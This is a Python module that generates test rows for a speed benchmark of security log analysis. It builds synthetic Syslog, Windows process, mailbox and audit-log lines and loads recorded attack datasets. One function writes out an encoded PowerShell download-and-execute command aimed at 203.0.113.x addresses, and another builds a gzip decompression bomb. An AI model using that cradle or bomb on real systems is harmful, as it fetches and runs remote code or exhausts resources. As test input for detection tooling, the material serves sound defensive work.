"""The rows of `analyze_speed`: recorded ones where there are some, else generated; plain columns, so that any pandas takes them."""

from __future__ import annotations

import base64
import gzip
import json
import random
import zipfile
from functools import cache
from itertools import chain, cycle, islice
from pathlib import Path

DATA = Path(__file__).resolve().parents[2] / "shared" / "data" / "security-datasets"
START = 1_772_323_200  # 2026-03-01
Columns = dict[str, list]


@cache
def recorded(field: str) -> list[list[str]]:
    """The texts of a field of each recorded attack that has some; of services where there is no recording."""
    found = []
    for path in sorted(DATA.glob("*.zip")):
        with zipfile.ZipFile(path) as archive:
            names = (name for name in archive.namelist() if not name.startswith("__MACOSX"))
            lines = chain.from_iterable(map(archive.open, names))
            texts = [row[field] for row in map(json.loads, lines) if isinstance(row, dict) and row.get(field)]
        if len(texts) >= 30:
            found.append(texts)
    return found or [lines_of_services(1_000)["text"]]


def messages(rows: int) -> Columns:
    """Messages of Windows events, as many of each recorded attack (some hold scripts of 20 kB); rows repeat above 100,000."""
    return {"text": list(islice(chain.from_iterable(zip(*map(cycle, recorded("Message")), strict=True)), rows))}


def commands(rows: int) -> Columns:
    """The distinct command lines of the recorded attacks, again and again."""
    return {"text": list(islice(cycle(dict.fromkeys(chain.from_iterable(recorded("CommandLine")))), rows))}


def numbered(rows: int) -> Columns:
    """The same, each with a number of its own, so that no two are alike."""
    return {"text": [f"{text} --run {n}" for n, text in enumerate(commands(rows)["text"])]}


def long_text(rows: int) -> Columns:
    """Texts of 100 kB of base64."""
    return {"text": [base64.b64encode(random.Random(n).randbytes(75_000)).decode() for n in range(rows)]}


def lines_of_services(rows: int) -> Columns:
    """Lines of services as Syslog holds them: mostly no indicator, some with several."""
    r = random.Random(5)
    kinds = (
        "Accepted publickey for svc{a} from 10.{b}.{c}.{d} port {p} ssh2: RSA SHA256:{h}",
        "GET https://cdn{a}.example-files.com/static/{h}/app.js?v={p} 200 from 203.0.{c}.{d} agent Mozilla/5.0 (X11)",
        "omsagent wrote /var/opt/microsoft/omsagent/state/CUSTOM_LOG_{a}.pos in {p} ms; next run of unit {b}",
        "blocked file {h} at C:\\Users\\user{a}\\AppData\\Local\\Temp\\inst{b}.exe, mail to soc{c}@contoso.com",
        "session {p} closed for user root by (uid=0) after {d} s with exit status {b}",
    )
    return {
        "text": [
            kinds[n % 5].format(
                a=r.randrange(1, 250), b=r.randrange(1, 250), c=r.randrange(1, 250), d=r.randrange(1, 250),
                p=20_000 + n % 40_000, h=r.randbytes(16).hex(),
            )
            for n in range(rows)
        ]
    }  # fmt: skip


def processes(rows: int) -> Columns:
    """Process starts of thirty hosts over a week: parents of the same host, ids used again."""
    r = random.Random(5)
    names = ("cmd.exe", "powershell.exe", "svchost.exe", "chrome.exe", "whoami.exe")
    seen: list[list[tuple[int, str]]] = [[(500, "services.exe")] for _ in range(30)]
    found: Columns = {name: [] for name in (
        "TimeGenerated", "Account", "Computer", "SubjectUserSid", "SubjectUserName", "NewProcessId", "ProcessId",
        "NewProcessName", "ParentProcessName", "IpAddress", "CommandLine",
    )}  # fmt: skip
    moments = sorted(r.randrange(604_800) for _ in range(rows))
    for n, moment in enumerate(moments):
        user, name = r.randrange(2000), r.choice(names)
        host = user % 30
        known = seen[host]
        parent, above = known[-r.randrange(1, min(50, len(known)) + 1)]
        pid = 1_000 + len(known) * 4 % 30_000
        known.append((pid, name))
        row = (
            START + moment, f"CORP\\user{user}", f"ws{host:03}.corp.example",
            f"S-1-5-21-1004336348-1177238915-682003330-{user + 1000}", f"user{user}", hex(pid), hex(parent),
            f"C:\\Windows\\System32\\{name}", f"C:\\Windows\\System32\\{above}",
            f"10.{user % 200}.{user % 7}.{user % 250}", f"{name} --run {n % 977} C:\\Users\\user{user}\\a.txt",
        )  # fmt: skip
        for column, value in zip(found.values(), row, strict=True):
            column.append(value)
    same = {
        "TenantId": "802d39e1-9d70-404d-832c-2de5e2478eda", "EventID": 4688, "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7", "TargetLogonId": "0x0", "TokenElevationType": "%%1936",
    }  # fmt: skip
    return {**found, "TimeCreatedUtc": found["TimeGenerated"], **{name: [value] * rows for name, value in same.items()}}


def encoded(rows: int) -> Columns:
    """PowerShell with an encoded command, each another."""
    script = "iex (new-object net.webclient).downloadstring('http://203.0.113.{}/{}')"
    texts = (base64.b64encode(script.format(n % 250, n).encode("utf-16-le")).decode() for n in range(rows))
    return {"text": [f"powershell.exe -nop -enc {text}" for text in texts]}


def bomb(rows: int) -> Columns:
    """A text of some 26 kB that unpacks to 20 MB."""
    return {"text": [base64.b64encode(gzip.compress(b"\0" * 20_000_000)).decode()] * rows}


def events(rows: int) -> Columns:
    """What users did within three days."""
    r = random.Random(5)
    names = ("Get-Mailbox", "Set-Mailbox", "New-InboxRule", "Set-User", "Add-Permission", "Remove-Rule")
    return {
        "user": [f"u{r.randrange(max(2, rows // 60))}" for _ in range(rows)],
        "TimeGenerated": [START + r.randrange(3 * 86_400) for _ in range(rows)],
        "event": [r.choice(names) for _ in range(rows)],
    }


def audit(rows: int) -> Columns:
    """The lines of an audit log; six to each event that starts a process."""
    r = random.Random(5)
    line = "type={} msg=audit({}.{:03}:{}): {}"
    out: list[str] = []
    for n in range(rows // 6 + 1):
        pid = r.randrange(1_000, 30_000)
        at = (1_551_485_405 + n // 3, n % 1000, n + 7)
        script = f"/usr/bin/check --pid {pid} | grep run{n}".encode().hex().upper()
        out += [
            line.format("SYSCALL", *at, f"arch=c000003e syscall=59 success=yes exit=0 a0=7fdd090dac18 a1=7fdd0657a630"
                " a2=7ffec9cad0c0 a3=9 items=2"
                f" ppid={pid} pid={pid + n % 9} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0"
                ' fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/bin/dash" subj==unconfined key=(null)'),
            line.format("EXECVE", *at, f'argc=3 a0="/bin/sh" a1="-c" a2={script}'),
            line.format("CWD", *at, ' cwd="/var/lib/waagent"'),
            line.format("PATH", *at, f'item=0 name="/bin/sh" inode={pid} dev=08:01 mode=0100755 ouid=0 ogid=0'
                " rdev=00:00 nametype=NORMAL"
                " cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0"),
            line.format("PROCTITLE", *at, f"proctitle=2F62696E2F7368002D6300{script}"),
            line.format("USER_LOGIN", *at[:2], at[2] + 10_000_000, f"pid={pid} uid=0 auid=4294967295 ses=1"
                " subj==unconfined msg='op=login acct=\"root\""
                f' exe="/usr/sbin/sshd" hostname=? addr=36.156.24.{n % 250} terminal=sshd res=failed\''),
        ]  # fmt: skip
    return {"text": out[:rows]}
